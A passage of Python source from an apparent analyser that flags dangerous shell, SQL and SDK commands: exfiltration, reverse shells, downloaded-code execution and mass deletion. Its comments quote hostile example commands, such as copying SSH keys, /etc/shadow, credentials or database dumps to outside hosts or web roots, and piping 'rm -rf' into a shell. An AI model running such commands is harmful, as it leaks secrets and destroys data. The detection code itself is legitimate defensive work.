            return m.group(0)
        carried = [sink.dest.lower()]  # a URL's query, a DNS name: as the words, lower case
        for i, a in enumerate(words):
            name, eq, value = a.lower().partition("=")
            if name in _SENT_FLAGS:
                carried.append(value if eq else words[i + 1].lower() if i + 1 < len(words) else "")
        secret = self.table.secret_variables
        for text in carried:
            for n in _ENV_REF.findall(text) if "$" in text else ():
                if any(s in n for s in secret):
                    return "$" + n.upper()
        return ""

    def _secret_variable(self, w: Words) -> bool:
        """An environment variable named for a secret (`effects.yaml` `secret_variables`),
        printed: by name to `printenv`, as `$NAME`/`${NAME}` to `echo`/`printf`."""
        words = self.table.secret_variables
        for i in w.positional[:8]:
            a = w.low[i]
            names = [a] if w.program == "printenv" else _ENV_REF.findall(a)
            if any(n in name for name in names for n in words):
                return True
        return False

    def _saved_plan(self, w: Words) -> None:
        """A plan saved by `plan -destroy -out FILE` earlier in the script, or one named for
        destruction (`destroy.plan`), applied: what it plans is destroyed (effects.yaml
        `saved_plans`)."""
        spec = self.table.saved_plans
        pos = [w.argv[1 + k] for k in w.positional]
        if not pos:
            return
        verb = pos[0].lower()
        if verb in spec["plan"] and not spec["destroy_flags"].isdisjoint(w.low):
            for k, a in enumerate(w.low[:-1]):
                if a in spec["out_flags"]:
                    self.destroy_plans.add(normalize_path(w.argv[k + 2]))
            for a in w.argv[1:]:
                flag, _, value = a.partition("=")
                if value and flag.lower() in spec["out_flags"]:
                    self.destroy_plans.add(normalize_path(value))
        elif verb in spec["apply"]:
            for f in pos[1:4]:
                name = normalize_path(f)
                words = _NAME_PARTS.split(_file_name(name))
                if name in self.destroy_plans or not self.table.destroy_verbs.isdisjoint(words):
                    what = describe("applies a plan that destroys", "infra", False, w.text)
                    self.out.add(Effect("destroy", "infra", what))
                    return

    def _rewritten_history(self, w: Words) -> None:
        """History rewritten to remove every file (effects.yaml `history_rewrites`): a filter
        run on every commit that deletes the whole tree (`--tree-filter 'rm -rf *'`; in an index
        filter `git rm --cached` is that deletion), or every path removed (`filter-repo
        --invert-paths --path-glob '*'`). Every commit loses its files: the history is gone."""
        spec = self.table.history_rewrites
        if w.low[w.positional[0]] not in spec["subcommands"]:
            return
        everything = spec["everything"]
        gone = False
        if not spec["invert_flags"].isdisjoint(w.low):
            for k, a in enumerate(w.low):
                flag, eq, value = a.partition("=")
                if flag in spec["path_flags"] and not eq and k + 1 < len(w.low):
                    value = w.low[k + 1]
                gone = gone or (flag in spec["path_flags"] and value.strip("'\"") in everything)
        for k, a in enumerate(w.low[:-1]):
            if a not in spec["filter_flags"] or gone:
                continue
            probe = Analyser(self.table, self.dest_class, budget=8)
            for cmd in parse_shell(w.argv[k + 2], pwsh=False).cmds[:8]:
                argv = cmd.argv
                if argv[:2] == ["git", "rm"]:  # from the index of each commit: from the commit
                    argv = ["rm", *(x for x in argv[2:] if x not in spec["index_only_flags"])]
                probe.argv(argv, "command")
            gone = any(
                e.kind == "destroy" and e.scope in ("data", "all") for e in probe.out.effects
            )
        if gone:
            what = describe("removes every file from every commit", "", False, w.text)
            self.out.add(Effect("destroy", "data", what))

    def _expiry_of_everything(self, w: Words) -> None:
        """A storage lifecycle rule that expires every object of a bucket within days
        (effects.yaml `lifecycles`): enabled, no prefix or filter narrowing it, an expiration
        by date or after at most `within_days` days. A bucket named for scratch is exempt."""
        spec = self.table.lifecycles
        if not any(w.low[k] in spec["subcommands"] for k in w.positional[:3]):
            return
        doc = _value_after(w.argv, tuple(spec["document_flags"]))
        if doc is None:
            doc = next(
                (a.split("=", 1)[1] for a in w.argv if a.split("=", 1)[0].lower()
                 in spec["document_flags"] and "=" in a),
                None,
            )  # fmt: skip
        if doc is None or len(doc) > 65536 or not doc.lstrip().startswith("{"):
            return
        try:
            parsed = json.loads(doc)
        except ValueError:
            return
        self._expiring(parsed, _value_after(w.argv, ("--bucket",)) or "", w.text)

    def _http_calls(self, sn: code.Snippet, text: str) -> None:
        """HTTP writes made by code (`code.http_requests`: `requests.patch(url, json={…})`,
        `fetch(url, {method: "PATCH", body: JSON.stringify({…})})`, Octokit's `request("PATCH
        /repos/…", {…})`): kept as the fields of the same request, judged as a call of their
        own (what the request deletes, sets or grants)."""
        cat = self.table.code_calls
        for call in sn.calls[:64]:
            if len(self.out.requests) >= 4:
                return
            if not call.args or not cat.hit("http_requests", call.chain.lower()):
                continue
            request = _http_call(call, sn.source or text, sn.language == "python")
            if request is not None:
                self.out.requests.append(request)

    def _container_calls(self, sn: code.Snippet) -> None:
        """Containers made by an SDK (`code.container_runs`: docker-py's `containers.run(image,
        cmd, volumes={…}, detach=True)`, dockerode's `createContainer({Image, HostConfig})`):
        their keywords or options judged as the container's spec given by fields."""
        cat = self.table.code_calls
        for call in sn.calls[:64]:
            if not cat.hit("container_runs", call.chain.lower()):
                continue
            spec: dict[str, Any] = {"image": call.args[0] if call.args else ""}
            for k, v in call.kwargs.items():
                spec[k] = True if v == "True" else False if v == "False" else v
            for k, node in call.dicts.items():
                spec[k] = code.literal(node)
            objs = [spec]
            if sn.language != "python" and "{" in call.argtext:
                found = code.js_object(call.argtext, call.argtext.find("{"))
                if isinstance(found, dict):
                    objs = [found] + [v for v in found.values() if isinstance(v, dict)][:4]
            e = container_spec(self.table, objs, f"{call.chain}()")
            if e is not None:
                self.out.add(e)
                return

    def _lifecycle_calls(self, sn: code.Snippet, text: str) -> None:
        """`s3.put_bucket_lifecycle_configuration(Bucket=…, LifecycleConfiguration={…})`: the
        same rule given to an SDK as a literal dict (`lifecycles.code_calls`)."""
        spec = self.table.lifecycles
        for call in sn.calls[:64]:
            if call.name.lower() not in spec["code_calls"] or not call.dicts:
                continue
            node = next(
                (v for k, v in call.dicts.items() if k.lower() in spec["code_documents"]), None
            )
            bucket = next((v for k, v in call.kwargs.items() if k.lower() == "bucket"), "")
            if node is not None and self._expiring(code.literal(node), bucket, text):
                return

    def _expiring(self, doc: Any, bucket: str, text: str) -> bool:
        """A lifecycle document that expires every object of `bucket` (not one named for
        scratch) within days: recorded as the bucket's data destroyed."""
        if not self.table.harmless_objects.isdisjoint(_NAME_PARTS.split(bucket.lower())):
            return False
        if not _expires_everything(doc, self.table.lifecycles["within_days"]):
            return False
        what = describe(f"expires every object of {bucket or 'a bucket'}", "", False, text)
        self.out.add(Effect("destroy", "data", what))
        return True

    def _git_sink(self, pos: list[str], w: Words, j: Judged, argv: list[str]) -> None:
        """A credential file added to Git in a script, then pushed to a remote the script
        named (`git remote add m https://github.com/x/dump.git && git add -f .env && … git push
        m`): the file goes to that remote's host."""
        sub = pos[0].lower()
        if sub == "remote" and len(pos) >= 4 and pos[1].lower() in ("add", "set-url"):
            if self.git_remotes is None:
                self.git_remotes = {}
            self.git_remotes[pos[2]] = pos[3]
        elif sub == "add":
            creds = [p for p in pos[1:9] if self.table.is_credential(p)]
            if creds:
                self.git_staged = (self.git_staged or []) + creds
        elif sub == "push":
            remote = pos[1] if len(pos) >= 2 else "origin"
            remotes = self.git_remotes or {}
            url = remotes.get(remote, remote if _GIT_NETWORK_URL.match(remote) else "")
            if url and self.git_staged:
                j.sinks.append(Sink(url, list(self.git_staged), False, w.text, argv))
            # `git -C ~/.password-store push …`: the repository of a credential store
            store = next((argv[k + 1] for k in range(1, len(argv) - 1) if argv[k] == "-C"), "")
            credential_store = bool(store) and self.table.is_credential(store)
            if (
                url
                and _GIT_NETWORK_URL.match(url)
                and (
                    "--all" in w.low
                    or "--mirror" in w.low
                    or any("*" in r for r in pos[2:6])
                    or credential_store
                )
            ):
                # Every branch sent to a remote the call itself names or points elsewhere: the
                # whole code base leaves, unless the host or account is the organisation's
                # (`Policy.internal_repositories`). A remote set up before is not judged here.
                url = _SCP_URL.sub(r"ssh://\1/", url, count=1)
                if self.dest_class(url) != "internal":
                    host = url.split("://", 1)[-1].split("/", 1)[0].rsplit("@", 1)[-1]
                    host = host.split(":", 1)[0] if host.count(":") == 1 else host
                    what = f"sends every branch of the repository to {host}"
                    if credential_store:
                        what = f"sends the repository of a credential store to {host}"
                    self.out.add(Effect("exfiltrate", "", describe(what, "", False, w.text)))

    def _local_sinks(self, prog: str, argv: list[str], w: Words, j: Judged, c: Cmd) -> None:
        """Sinks of commands the table has no handler for: copies to other hosts, netcat, mail."""
        pos = [a for a in argv[1:] if not a.startswith("-")]
        if prog in _LOCAL_COPIES and len(argv) > 2:
            self._published(argv, pos, w)
        if prog in _CLOUD_REMOTES:  # `rclone copy SRC remote:path --transfers 4`
            remotes = [k for k, p in enumerate(pos) if _REMOTE_HOST.match(p) and k > 0]
            if remotes:
                pos = pos[: remotes[-1] + 1]
        elif prog in _BUCKET_COPIERS or prog in _COPY_SINKS:
            pos = _without_trailing_values(argv, pos)  # `aws s3 cp F s3://b/ --acl public-read`
        if prog in _BUCKET_COPIERS and len(pos) >= 2 and _BUCKET_URL.match(pos[-1]):
            # `aws s3 cp SRC s3://bucket/`: a storage account whose owner the call cannot show,
            # as an rclone remote
            fed = _uploads_stdin(prog, argv, pos)
            j.sinks.append(Sink(pos[-1], pos[:-1], fed, w.text, argv, True))
        elif prog == "az" and [a.lower() for a in argv[1:4]] in _AZ_UPLOADS:
            # `az storage blob upload --account-name x --file ~/.kube/config`: a storage account
            # whose owner the call cannot show, as a bucket
            uploaded = _value_after(argv, ("--file", "-f", "--source", "-s"))
            account = _value_after(argv, ("--account-name",)) or "storage"
            dest = f"https://{account}.blob.core.windows.net"
            j.sinks.append(Sink(dest, [uploaded] if uploaded else [], False, w.text, argv, True))
        elif prog in _SESSION_CLIENTS and (sent := _session_upload(prog, argv)) is not None:
            j.sinks.append(Sink(sent[0], sent[1], False, w.text, argv))
        elif prog in _UNC_COPIES and (dest := _unc_destination(argv, pos)):
            # `copy id_rsa \\203.0.113.9\loot`, `… | Copy-Item -Destination \\host\share`: a
            # share on that host (what is piped in goes when no file is named)
            # (`Export-PfxCertificate -FilePath \\host\x.pfx`: the keys it writes there)
            files = [dest] if prog.startswith("export-") else [p for p in pos if p != dest]
            j.sinks.append(Sink(dest[2:].split("\\", 1)[0], files, not files, w.text, argv))
        elif prog in _COPY_SINKS and len(pos) >= 2:
            dest = pos[-1]
            m = _REMOTE_HOST.match(dest)
            if m is not None and not dest.startswith(("/", "./", "~")):
                # an rclone remote is a cloud storage account, not a host of the network
                outside = prog in _CLOUD_REMOTES
                fed = _uploads_stdin(prog, argv, pos)
                j.sinks.append(Sink(m.group(1), pos[:-1], fed, w.text, argv, outside))
        elif prog == "socat" and pos:
            # `socat - TCP:host:port < .env`, `socat FILE:/etc/shadow TCP:host:port`: the
            # network address is where it goes, a file address or the input is what goes
            hosts = [m.group(1) for m in map(_SOCAT_NET.match, pos) if m is not None]
            if hosts:
                files = [r.target.text for r in c.redirects if r.op == "<"]
                files += [m.group(1) for m in map(_SOCAT_FILE.match, pos) if m is not None]
                j.sinks.append(Sink(hosts[0], files, True, w.text, argv))
        elif prog in _NETCAT and pos:
            host = pos[0]
            if not host.isdigit():
                files = [r.target.text for r in c.redirects if r.op == "<"]
                j.sinks.append(Sink(host, files, True, w.text, argv))
        elif prog == "openssl" and len(argv) > 2 and argv[1].lower() == "s_client":
            # `openssl s_client -connect host:443 < file`: a raw TLS client, fed like netcat
            target = _value_after(argv, ("-connect",))
            if target:
                host = target.rsplit(":", 1)[0].strip("[]")
                files = [r.target.text for r in c.redirects if r.op == "<"]
                j.sinks.append(Sink(host, files, True, w.text, argv))
        elif prog in _MAILERS:
            dests = _EMAIL.findall(" ".join(argv[1:]))
            files = [
                argv[k + 1]
                for k in range(1, len(argv) - 1)
                if argv[k].lower() in ("-a", "--attach", "-attachments", "-attachment")
            ]
            files += [r.target.text for r in c.redirects if r.op == "<"]
            if dests:
                self.out.kinds.add("send")  # a message sent to people: an outbound message
            for d in dests or ["unknown"]:
                j.sinks.append(Sink(d, files, True, w.text, argv))
        elif prog in _DNS and pos:
            j.sinks.append(Sink(pos[-1], [], False, w.text, argv))
        elif prog == "git" and pos:
            # git's own options before its subcommand take a value (`-C dir`, `-c k=v`)
            k = 1
            while k < len(argv) - 1 and argv[k] in _GIT_VALUE_OPTIONS:
                k += 2
            self._git_sink([a for a in argv[k:] if not a.startswith("-")], w, j, argv)
        elif prog == "gh" and [a.lower() for a in argv[1:3]] == ["repo", "transfer"]:
            self._repo_transfer(pos, w)
        elif prog in ("docker", "podman") and len(pos) >= 2 and pos[0].lower() in ("tag", "push"):
            self._image_moved(pos, w)
        elif prog == "gh" and [a.lower() for a in argv[1:3]] == ["secret", "set"]:
            # a secret stored in the repository `--repo` names: it goes to that repository's
            # owner (outside when `Policy.internal_repositories` names other accounts)
            repo = _value_after(argv, ("--repo", "-r"))
            if repo and "/" in repo:
                url = "https://" + (repo if repo.count("/") >= 2 else "github.com/" + repo)
                j.sinks.append(Sink(url, [], False, w.text, argv))
        elif prog == "ssh" and pos:
            j.sinks.append(
                Sink(
                    _REMOTE_HOST.sub(r"\1", pos[0] + ":").rstrip(":").split("@")[-1],
                    [],
                    True,
                    w.text,
                    argv,
                )
            )
        if prog in _ARCHIVERS:
            outputs = _outputs(prog, argv) + [
                r.target.text for r in c.redirects if r.op in (">", ">>")
            ]
            if (
                any(
                    self.table.is_credential(a) or self.table.path_scope(a, True) == "all"
                    for a in pos
                )
                or normalize_path(pos[0] if pos else "") in self.tainted
            ):  # an archive of credentials, or of everything (homes, /etc: their keys included)
                self.tainted.update(normalize_path(o) for o in outputs if o)
        elif (j.effects and any(e.kind == "read_secret" for e in j.effects)) or (
            prog in ("printenv", "echo", "printf") and c.redirects and self._secret_variable(w)
        ):  # `printf '%s' "$DEPLOY_TOKEN" > /tmp/t`: the file holds the secret
            outs = [r.target.text for r in c.redirects if r.op in (">", ">>")]
            self.tainted.update(normalize_path(o) for o in outs + _secret_files(argv))
            # `vault kv get … > /var/www/html/v.json`: anyone reads it
            self._publishes("what it reads", outs, w.text)

    def _published(self, argv: list[str], pos: list[str], w: Words) -> None:
        """`cp ~/.aws/credentials /var/www/html/`: a secret put where others read it."""
        flagged = [argv[k + 1] for k in range(1, len(argv) - 1) if argv[k].lower() in _DEST_FLAGS]
        dests = flagged or pos[-1:]
        sources = [p for p in pos if p not in dests]
        t = self.table
        if not any(t.is_public_place(d) for d in dests):
            return
        secret = next(
            (
                s
                for s in sources
                if t.is_credential(s) or normalize_path(s) in self.tainted or t.is_data_copy(s)
            ),
            None,
        )  # a secret, or a data store's content (`cp /var/backups/app.sql.gz /var/www/html/`)
        if secret is not None:
            self._publishes(_short(secret), dests, w.text)

    def _publishes(self, what: str, dests: list[str], text: str) -> None:
        """`what` put into the first of `dests` that is a public place (`paths.public`: a web
        root, a public share): published, as if uploaded."""
        for dest in dests:
            if self.table.is_public_place(dest):
                what = describe(f"publishes {what} to {dest}", "", False, text)
                self.out.add(Effect("exfiltrate", "", what))
                return

    def _dump_of(self, w: Words) -> list[str] | None:
        """What a command dumps, by name (a table read whole, the tables, collections and
        databases a dumper is given), or None when it dumps nothing: a program that writes out a
        data store's content (effects.yaml `data_dumpers`, not with a schema-only option), a
        database client whose query reads a table whole (`psql -c '\\copy customers to
        stdout'`, `sqlite3 app.db 'SELECT * FROM users'`), a key-value client reading each key
        it is given (`… | xargs redis-cli get`). Kept for the last command asked: its source
        and its publishing ask in turn."""
        if self.last_dump is not None and self.last_dump[0] is w:
            return self.last_dump[1]
        names = self._dump_names(w)
        self.last_dump = (w, names)
        return names

    def _dump_names(self, w: Words) -> list[str] | None:
        spec = self.table.data_dumpers.get(w.program)
        if spec is not None and spec[2].intersection(w.low[:32]):
            return None  # `mysqldump --no-data`, `pg_dump -s`: the schema, no rows
        dumper = spec is not None and (not spec[0] or any(a in spec[0] for a in w.low[:32]))
        if not dumper and w.program == "xargs":
            return [] if _reads_each_key(w.low) else None
        read = self._table_read(w)
        if read:
            return [read]
        if not dumper:
            return None
        return [w.argv[1 + i] for i in w.positional[:8]] + [
            w.argv[k + 1]
            for k in range(1, min(len(w.argv) - 1, 32))
            if w.argv[k].lower() in _DUMPED_OBJECT_FLAGS
        ]

    def _table_read(self, w: Words) -> str:
        """The table a SQL client's query reads whole (`sqlx.whole_table_read`), or ""."""
        spec = self.table.interpreters.get(w.program)
        if spec is None or spec.get("lang") != "sql":
            return ""
        flags = [str(f).lower() for f in (spec.get("flags") or [])]
        argv = w.argv
        for k in range(1, min(len(argv), 32)):
            a = argv[k].lower()
            if a in flags and k + 1 < len(argv):
                return sqlx.whole_table_read(argv[k + 1])
            name, eq, value = argv[k].partition("=")
            if eq and name.lower() in flags:
                return sqlx.whole_table_read(value)
        pos = int(spec.get("positional_sql") or 0)
        positional = [a for a in argv[1:] if not a.startswith("-")]
        if pos and len(positional) >= pos:
            return sqlx.whole_table_read(" ".join(positional[pos - 1 :]))
        return ""

    def _dump_published(self, w: Words, c: Cmd) -> None:
        """A dump written into a public place (`pg_dump app > /var/www/html/app.sql`, `bcp t
        out C:\\inetpub\\wwwroot\\t.txt`): anyone who can reach the server reads the data. What
        it is of is kept (`Findings.dumped`): a people table's dump is a bulk export."""
        names = self._dump_of(w)
        if names is None:
            return
        self.out.dumped.extend(names[:8])
        outs = [r.target.text for r in c.redirects if r.op in (">", ">>", "&>", ">|")]
        spec = self.table.data_dumpers.get(w.program)
        flags = spec[1] if spec is not None else ()
        low = w.low[:32]
        for k, a in enumerate(low):
            flag, sep, rest = a.partition("=") if a.startswith("-") else a.partition(" ")
            if flag in flags:
                if sep and rest.strip():
                    outs.append(w.argv[k + 1][len(flag) + 1 :].strip())
                elif k + 1 < len(low):
                    outs.append(w.argv[k + 2])
        self._publishes("what it dumps", outs, w.text)
        for out in outs[:8]:  # sent later (`… && scp /tmp/x.sql host:`), a store's content leaves
            if len(self.tainted) < 64:
                self.tainted.add(normalize_path(out))

    def _runs_download(self, prog: str, argv: list[str], text: str) -> None:
        """Running a file fetched earlier in the same call: download then run."""
        if not self.downloaded:
            return
        cands = [argv[0]]
        if prog in _EXECUTORS or prog in (
            "chmod",
            "start-process",
            "msiexec",
            "dpkg",
            "rpm",
            "installer",
        ):
            cands += [a for a in argv[1:] if not a.startswith("-")]
        for cand in cands:
            name = normalize_path(cand)
            if name in self.downloaded or _file_name(name) in self.downloaded:
                if prog == "chmod":
                    continue
                self.out.add(
                    Effect("remote_code", "", describe("runs a downloaded file", "", False, text))
                )
                return

    def _fed_scripts(self, words: list[Word], c: Cmd, depth: int) -> bool:
        """A shell's script given as what a process substitution prints (`<(echo '…')`, as a
        file or on standard input): True when one was read."""
        subs = [w.subs[0] for w in words[1:] if w.proc_sub and w.subs]
        subs += [r.target.subs[0] for r in c.redirects if r.op == "<" and r.target.subs]
        found = False
        for sub in subs[:4]:
            printed = _printed_by(sub)
            if printed:
                self.shell(printed, strict=False, depth=depth + 1)
                found = True
        return found

    def _written(self, path: str) -> str | None:
        """What this call wrote to `path` earlier (None: not written, or not known)."""
        name = normalize_path(path)
        content = self.scripts.get(name)
        return content if content is not None else self.scripts.get(_file_name(name))

    def _runs_written(self, prog: str, argv: list[str], depth: int) -> None:
        """Running a file written earlier in the same call (`echo '…' > /tmp/x.sh && bash
        /tmp/x.sh`, `./x.sh`, `source x.sh`): what it holds runs."""
        t = self.table
        cands = [argv[0]]
        if prog in t.shells or prog in ("source", ".") or prog in t.interpreters:
            cands += [a for a in argv[1:] if not a.startswith("-")][:1]
        for cand in cands:
            content = self._written(cand)
            if content is None:
                continue
            self.out.kinds.add("exec")
            if prog in t.interpreters and cand != argv[0]:
                self.text(content, "code")  # `python3 x.py`: its code
            else:
                self.shell(content, strict=False, depth=depth + 1)
            return

    # ------------------------------------------------------------------------ pipelines
    def _pipelines(self, ran: list[_Ran], depth: int) -> None:
        """What flows through pipes: remote code into a shell, secrets out to a host. One pass
        per pipeline, carrying what the stages so far produce (never a look back per stage)."""
        by_line: dict[int, list[_Ran]] = {}
        for r in ran:
            by_line.setdefault(r.cmd.pipeline, []).append(r)
        for line in by_line.values():
            if len(line) > 1:
                self._netcat_shell(line)
            up = _Upstream()  # what the stages before the current one produce
            up.source = self.piped if depth == 1 else ""
            here = _Upstream()  # what the current stage produces (a group has several commands)
            stage = -1
            for r in line:
                if r.cmd.stage != stage:
                    up.merge(here)
                    here = _Upstream()
                    stage = r.cmd.stage
                prog = r.words.program
                if (up.fetched or up.decoded) and prog in _EXECUTORS and _reads_stdin(r.words):
                    what = (
                        "runs code fetched from outside" if up.fetched else "runs a decoded payload"
                    )
                    self.out.add(
                        Effect("remote_code", "", describe(what, "", False, _line_text(line)))
                    )
                    for lit in up.literals:
                        body = code.decode_base64(lit)
                        if body:
                            self.shell(body, strict=False, depth=depth + 1)
                elif up.echoed and prog in _SHELLS and _reads_stdin(r.words):
                    # `echo 'rm -rf /srv/data' | bash`: what is echoed into a shell runs
                    self.shell(" ".join(up.echoed), strict=False, depth=depth + 1)
                for sink in r.judged.sinks:
                    self._exfil(sink, up.source if sink.stdin else "", r)
                if up.echoed and prog in self.table.stdin_args:
                    self.argv([r.words.argv[0], *r.words.argv[1:], *up.echoed], "command")
                here.add(r)
        # download then run through a process substitution: `bash <(curl …)`, `source <(…)`
        for r in ran:
            if r.words.program in _EXECUTORS and any(w.proc_sub for w in r.cmd.words[1:]):
                for w in r.cmd.words[1:]:
                    for sub in w.subs:
                        if _fetches(sub):
                            self.out.add(
                                Effect(
                                    "remote_code",
                                    "",
                                    describe(
                                        "runs code fetched from outside", "", False, r.cmd.text
                                    ),
                                )
                            )
            # `sh -c "$(curl …)"`, `eval "$(curl …)"`, `python -c "$(wget -O- …)"`
            if r.words.program in _EXECUTORS or r.judged.kind == "exec":
                for w in r.cmd.words[1:]:
                    for sub in w.subs:
                        if _fetches(sub) and (
                            w.text.startswith("$(")
                            or r.words.program in ("eval", "iex", "invoke-expression")
                        ):
                            self.out.add(
                                Effect(
                                    "remote_code",
                                    "",
                                    describe(
                                        "runs code fetched from outside", "", False, r.cmd.text
                                    ),
                                )
                            )
                        elif _decoder_text(sub) and (
                            w.text.startswith("$(")
                            or r.words.program in ("eval", "iex", "invoke-expression")
                        ):
                            self.out.add(
                                Effect(
                                    "remote_code",
                                    "",
                                    describe("runs a decoded payload", "", False, r.cmd.text),
                                )
                            )
                            for lit in sub.split():
                                body = (
                                    code.decode_base64(lit.strip("'\""))
                                    if _B64_WORD.match(lit.strip("'\""))
                                    else ""
                                )
                                if body:
                                    self.shell(body, strict=False, depth=depth + 1)

    def _netcat_shell(self, line: list[_Ran]) -> None:
        """A pipeline joining netcat (or telnet, socat) and a shell: a reverse or bind shell."""
        progs = {u.words.program for u in line}
        if not progs & _NETCAT:
            return
        args = {a for u in line for a in u.words.argv[1:]}
        shellish = (
            bool(progs & self.table.shells)
            or "exec" in progs
            or bool(args & {"/bin/sh", "/bin/bash", "sh", "bash"})
        )
        if shellish or ("mkfifo" in progs and any("/bin/" in a for a in args)):
            what = describe("binds a shell to a network connection", "", False, _line_text(line))
            self.out.add(Effect("remote_control", "", what))

    def _exfil(self, sink: Sink, upstream_source: str, r: _Ran) -> None:
        dest_class = "unknown" if sink.outside else self.dest_class(sink.dest)
        if dest_class == "internal":
            return
        what = upstream_source
        if not what:
            for f in sink.files:
                p = normalize_path(f)
                if self.table.is_credential(f) or p in self.tainted:
                    what = f
                    break
                if p in self.table.paths.account_files and dest_class != "known":
                    what = f  # `curl -F f=@/etc/passwd http://…`: who has an account here
                    break
                if self.table.is_data_copy(f) and self.dest_class(sink.dest) in _OUTSIDE:
                    what = f  # `curl -T /var/backups/app.sql.gz https://transfer.sh/`: the data
                    break
                if self.table.is_database_file(f) and self.dest_class(sink.dest) in _OUTSIDE:
                    what = f  # `curl -F file=@db.sqlite3 https://file.io`: a project's database
                    break
        if not what:
            what = self._secret_carried(sink)
        if not what:
            for w in r.cmd.words:
                for sub in w.subs:
                    probe = Analyser(self.table, self.dest_class, budget=20)
                    probe.shell(sub, strict=False, depth=MAX_DEPTH - 1)
                    if probe.out.secret_sources or any(
                        e.kind == "read_secret" for e in probe.out.effects
                    ):
                        what = sub
                        break
        if (
            not what
            and ("$" in sink.dest or "…" in sink.dest)
            and (self.out.secret_sources or any(e.kind == "read_secret" for e in self.out.effects))
        ):
            what = self.out.secret_sources[0] if self.out.secret_sources else "the environment"
        if not what:
            return
        if (
            dest_class == "known"
            and not self.table.is_credential(what)
            and not any(what == s for s in self.out.secret_sources)
        ):
            return
        host = sink.dest.split("://", 1)[-1].split("/", 1)[0]
        self.out.add(
            Effect(
                "exfiltrate", "", describe(f"sends {_short(what)} to {host}", "", False, sink.what)
            )
        )

    def _pwsh_remote(self, text: str) -> None:
        low = text.lower()
        if ("iex" in low or "invoke-expression" in low) and re.search(
            r"downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient|frombase64string",
            low,
        ):
            self.out.add(
                Effect(
                    "remote_code", "", describe("runs code fetched from outside", "", False, text)
                )
            )
        elif "frombase64string" in low and re.search(
            r"\b(?:iex|invoke-expression|invoke-command|start-process|\.invoke\(\))", low
        ):
            self.out.add(
                Effect("remote_code", "", describe("runs a decoded payload", "", False, text))
            )

    # ------------------------------------------------------------------------ SQL and code
    def _shell_escapes(self, text: str, client: str) -> str:
        """A client's lines that hand the rest of the line to the system's shell (`\\! rm -rf
        /x` in psql or mysql, `.shell …` in sqlite3, `!!del …` in sqlcmd, `shell …` in gdb:
        effects.yaml `shell_escapes`) are judged as shell lines; the other lines (the client's
        own statements) are returned."""
        t = self.table
        heads = t.shell_escapes + t.client_escapes.get(client, ())
        if (
            not any(h in text for h in t.shell_escapes)
            and not any(h in text for h in t.output_pipes)
            and not (client in t.client_escapes and text.strip())
        ):
            return text
        lines = text.splitlines()[:512]
        kept: list[str] = []
        piped_to = ""
        for line in lines:
            stripped = line.lstrip()
            low = stripped[:32].lower()
            pipe = next((h for h in t.output_pipes if low.startswith(h)), None)
            if pipe is not None and stripped[len(pipe) :].lstrip().startswith("|"):
                piped_to = stripped[len(pipe) :].lstrip()[1:].strip()
                continue
            head = next(
                (
                    h
                    for h in heads
                    if low.startswith(h)
                    and (not h[-1].isalnum() or stripped[len(h) : len(h) + 1] in ("", " ", "\t"))
                ),
                None,
            )
            if head is None:
                kept.append(line)
                continue
            rest = stripped[len(head) :].strip()
            if rest and self.budget > 0:
                self.out.texts.append(stripped)
                self.shell(rest, strict=False, depth=1)
        if piped_to and self.budget > 0:
            # what the statements print goes to the command: to a shell, their quoted texts
            # are its lines (`\\o | sh` then `SELECT 'rm -rf /x'`)
            if program_name(piped_to.split(" ", 1)[0]) in t.shells:
                for quoted in _SQL_STRING.findall("\n".join(kept))[:16]:
                    self.shell(quoted.replace("''", "'"), strict=False, depth=1)
            self.shell(piped_to, strict=False, depth=1)
        return "\n".join(kept) if len(kept) < len(lines) else text

    def sql(self, text: str, *, strict: bool, temp: bool = False, client: str = "") -> None:
        """`temp`: the statements run on a database made for the snippet (`:memory:`);
        `client`: the program given them (`mysql`), whose own shell escapes count."""
        if self.budget <= 0:
            return
        self.budget -= 1
        text = self._shell_escapes(text, client)
        if not text.strip():
            return
        if "\\copy" in text or "\\COPY" in text:
            text = _PSQL_COPY.sub("COPY", text)  # psql's client-side COPY: the same rows, a file
        found = sqlx.analyse(text, strict=strict)
        if found:
            self.out.texts.append(text)
        for e in found:
            if e.kind in ("read", "write", "exec"):
                self.out.kinds.add(e.kind)
            else:
                self.out.kinds.add("write")
                scope = "temp" if temp and e.kind == "destroy" else e.scope
                self.out.add(Effect(e.kind, scope, e.text))
            for cmd in e.shell:
                self.piped = e.stdin
                self.shell(cmd, strict=False, depth=1)
                self.piped = ""
            for path, content in e.files:  # `SELECT '…' INTO OUTFILE '/var/www/html/x.php'`
                self.file_write(path, content, False, e.text, 1)
                if content is None:  # `COPY users TO '/var/www/html/u.csv'`: a table's rows
                    self._publishes("the rows it selects", [path], e.text)
            for key, value in e.settings:  # `ALTER SYSTEM SET ssl = off`
                unit = self.table.retention.get(key)  # `SET GLOBAL binlog_expire_logs_seconds = 1`
                if unit is not None:
                    self._retention(key, value, unit)
                else:
                    self.setting(key, value)
            for dest, what in e.sends:  # a whole table unloaded to a bucket or a host
                self._unloaded(dest, what, e.text)

    def _vault_policy(self, argv: list[str], c: Cmd, upstream: list[_Ran]) -> None:
        """`vault policy write NAME - <<EOF path "*" { capabilities = [… "sudo"] } EOF`: a
        policy with every power over every path; written as `default`, every token has it."""
        body = (_fed_text(c, upstream) or "")[:16_384]
        flat = "".join(body.split()).lower()
        if 'path"*"' not in flat or ('"sudo"' not in flat and 'capabilities=["*"]' not in flat):
            return
        if len(argv) > 3 and argv[3].lower() == "default":
            what = "gives every token every power over every path"
            self.out.add(Effect("escalate", "all", describe(what, "", False, c.text)))
        else:
            what = "writes a policy with every power over every path"
            self.out.add(Effect("access_change", "", describe(what, "", False, c.text)))

    def _unloaded(self, dest: str, what: str, text: str) -> None:
        """A table's rows written by the database to a location: sent out when it is a bucket
        (whose owner the statement cannot show, as for `aws s3 cp`) or a host outside."""
        if _BUCKET_URL.match(dest) is None and self.dest_class(dest) not in _OUTSIDE:
            return
        if "://" not in dest:
            return
        where = dest.split("://", 1)[1].split("/", 1)[0]
        self.out.add(
            Effect("exfiltrate", "", describe(f"sends {what} to {where}", "", False, text))
        )

    def _graphql(self, text: str) -> None:
        if self.budget <= 0:
            return
        self.budget -= 1
        self.out.texts.append(text)
        self.out.kinds.add("write")
        for e in sqlx.graphql(text, self.table.destroy_verbs, self._graphql_scope):
            self.out.add(Effect(e.kind, e.scope, e.text))

    def _graphql_scope(self, words: list[str], every: bool) -> str:
        return _worst([self.table.noun_scope(words), "data" if every else "item"])

    def _cypher(self, text: str) -> None:
        if self.budget <= 0:
            return
        self.budget -= 1
